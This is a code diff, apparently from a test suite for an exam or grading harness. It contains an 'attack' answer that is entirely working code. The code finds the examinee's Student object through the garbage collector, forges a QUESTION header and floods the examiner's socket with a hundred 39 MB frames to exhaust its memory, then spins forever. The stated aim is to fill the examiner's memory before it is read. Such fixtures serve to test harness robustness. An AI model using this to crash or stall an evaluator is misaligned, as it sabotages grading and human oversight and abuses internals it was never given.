@@ -1,13 +1,18 @@
 # Sends one message of a hundred frames of 39 MB each, to fill the examiner's memory before it is read.
 # %% attack
-import zmq
+import gc
 
-kernel = get_ipython().kernel
-frame = zmq.Frame(bytearray(39_000_000), copy=False)
+from examinee.channel import QUESTION
+from examinee.student import Student
+
+student = next(thing for thing in gc.get_objects() if isinstance(thing, Student))
+frame = bytes(39_000_000)
 # %% attack answer gram_attention
 def gram_attention(X):
-    parent, identity = kernel._asking
+    import struct
+
+    student._channel.socket.sendall(struct.pack("!cII100I", QUESTION, student._number, 100, *[len(frame)] * 100))
     for _ in range(100):
-        kernel.stdin_socket.send_multipart([*identity, *[frame] * 100], copy=False)
+        student._channel.socket.sendall(frame)
     while True:
         pass
